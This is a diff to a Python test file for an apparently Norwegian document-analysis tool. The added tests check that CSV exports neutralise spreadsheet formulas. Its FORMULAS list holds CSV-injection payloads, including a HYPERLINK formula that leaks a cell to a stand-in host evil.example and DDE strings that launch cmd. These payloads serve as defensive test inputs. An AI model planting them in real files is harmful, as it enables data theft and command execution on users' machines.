@@ -15,6 +15,7 @@ from docx import Document as open_docx
 from openpyxl import load_workbook
 
 from rag.contract import count_line, type_plural
+from rag.csv_cells import FORMULA_START, cell_text
 from rag.errors import TopicsFileError
 from rag.export import (
     ANSWER_COLUMNS,
@@ -147,9 +148,10 @@ def read_csv(data: bytes) -> list[dict[str, str]]:
 def test_answer_csv_keeps_quotes_submitters_and_offsets_exactly(answer: Answer) -> None:
     rows = read_csv(export_answer(answer, "csv"))
     assert list(rows[0]) == list(ANSWER_COLUMNS)
+    assert rows[0]["sitat"] == "'" + QUOTE_A  # «=SUM(A1)…» is text, not a formula
     for row, c in zip(rows, answer.citations, strict=True):
         assert (
-            row["sitat"]
+            cell_text(row["sitat"])
             == c.quote
             == DOCS[c.document_id].text[int(row["start"]) : int(row["slutt"])]
         )
@@ -168,7 +170,7 @@ def test_matrix_csv_has_a_row_per_cell(matrix) -> None:  # type: ignore[no-untyp
     assert list(rows[0]) == list(MATRIX_COLUMNS)
     assert len(rows) == len(matrix.cells)
     by_key = {(r["tema"], r["dokument"]): r for r in rows}
-    assert by_key[("fastlegeordningen", "a")]["sitat"] == QUOTE_A
+    assert by_key[("fastlegeordningen", "a")]["sitat"] == "'" + QUOTE_A
     assert by_key[("fastlegeordningen", "a")]["innsender"] == "Ålesund kommune"
     assert by_key[("fastlegeordningen", "c")]["omtalt"] == "nei"
     assert by_key[("fastlegeordningen", "c")]["sitat"] == ""
@@ -250,3 +252,47 @@ def test_file_names_are_ascii_slugs() -> None:
         type_plural("kommune", 2) == "kommuner"
         and type_plural("helsefellesskap", 2) == "helsefellesskap"
     )
+
+
+# --- formulas in CSV (OWASP CSV injection) ---------------------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1;"Klikk her")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",  # already marked: written «''=1+1» so that it reads back as it was
+)
+
+
+def hostile_document(n: int, formula: str) -> Document:
+    text = f"{formula} er sitert.\n"
+    return Document(f"d{n}", f"{formula}.txt", formula, formula, formula, text, "h")
+
+
+def hostile_citation(n: int, doc: Document) -> Citation:
+    quote = doc.text.rstrip("\n")
+    return Citation(n, doc.document_id, doc.source, doc.submitter, doc.submitter_type,
+                    doc.submitter, None, quote, 0, len(quote), 0.9)  # fmt: skip
+
+
+def assert_no_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(tuple(FORMULA_START)), row
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_csv_cell_of_an_answer_or_a_matrix_starts_a_formula(formula: str) -> None:
+    doc = hostile_document(1, formula)
+    citation = hostile_citation(1, doc)
+    answer = Answer(formula, "1 av 1 innspill omtaler dette.", False, (citation,))
+    decision = SubmitterDecision(doc, "high", (citation,), 0.9)
+    matrix = matrix_of((formula,), [[decision]])
+    for data in (export_answer(answer, "csv"), export_matrix(matrix, "csv")):
+        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+        assert_no_formula(table)
+        values = {cell_text(cell) for row in table[1:] for cell in row}
+        assert {formula, citation.quote} <= values  # readable: the text, after one apostrophe
